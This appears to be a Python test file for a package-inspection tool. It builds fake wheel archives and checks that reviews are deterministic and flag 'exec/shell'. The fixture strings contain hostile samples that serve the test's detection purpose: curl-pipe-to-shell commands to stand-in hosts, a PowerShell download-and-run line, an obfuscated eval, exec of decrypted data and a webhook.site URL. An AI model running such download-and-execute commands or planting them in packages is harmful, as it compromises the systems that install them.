"""What the nursery loads before it forks is all that reading an ordinary package needs."""

import io
import subprocess
import sys
import zipfile

import msgspec

from pratique.ecosystems import identify
from pratique.model import Fetched
from pratique.review import Reviewer

_SCRIPT = """
import io, sys, zipfile
from pratique import ecosystems, inspection
from pratique.limits import Limits

inspection.rehearse()
before = set(sys.modules)
made = io.BytesIO()
with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("demo/__init__.py", "import os, requests\\n\\ndef go(a):\\n    eval(a)\\n")
    archive.writestr("demo/run.sh", "#!/bin/sh\\ncurl https://demo.example | sh\\n")
    archive.writestr("demo/a.js", "eval(atob('YQ=='))\\n")
    archive.writestr("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: demo\\n")
    archive.writestr("demo-1.0.dist-info/RECORD", "demo/__init__.py,,\\n")
data = made.getvalue()
_, artifact = ecosystems.identify("demo-1.0-py3-none-any.whl", data)
found = inspection.inspect(data, artifact, Limits())
assert len(found.members) == 5
print(*sorted(set(sys.modules) - before))
"""


def test_a_child_loads_no_module_of_its_own() -> None:
    done = subprocess.run(
        [sys.executable, "-c", _SCRIPT], capture_output=True, text=True, check=False, timeout=120
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.split() == []


_MEMBERS = {
    "demo/__init__.py": "import os, requests\nfrom cryptography.fernet import Fernet\n"
    "exec(Fernet(b'" + "A" * 43 + "=').decrypt(b'x'))\nos.system('curl https://a.example | sh')\n",
    "demo/run.ps1": "iwr https://demo.example/x -OutFile x.exe; Start-Process x.exe\n",
    "demo/a.js": "eval(atob('YWxlcnQoMSk='))\n",
    "demo/lib.rs": 'fn main() { std::process::Command::new("sh").arg("-c"); }\n',
    "demo/A.java": 'class A { static { Runtime.getRuntime().exec("id"); } }\n',
    "demo/text.txt": "é\u200b ü https://webhook.site/1\n",
    "demo-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
}


def test_the_first_child_loads_for_itself_what_the_others_are_forked_with(tmp_path):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in _MEMBERS.items():
            archive.writestr(zipfile.ZipInfo(name), text)
    path = tmp_path / "demo-1.0-py3-none-any.whl"
    path.write_bytes(made.getvalue())
    fetched = Fetched(artifact=identify(path.name)[1], path=str(path))
    with Reviewer() as reviewer:
        first, second, third = (
            msgspec.json.encode(reviewer.review(fetched)).decode() for _ in range(3)
        )
    assert first == second == third
    assert '"exec/shell"' in first
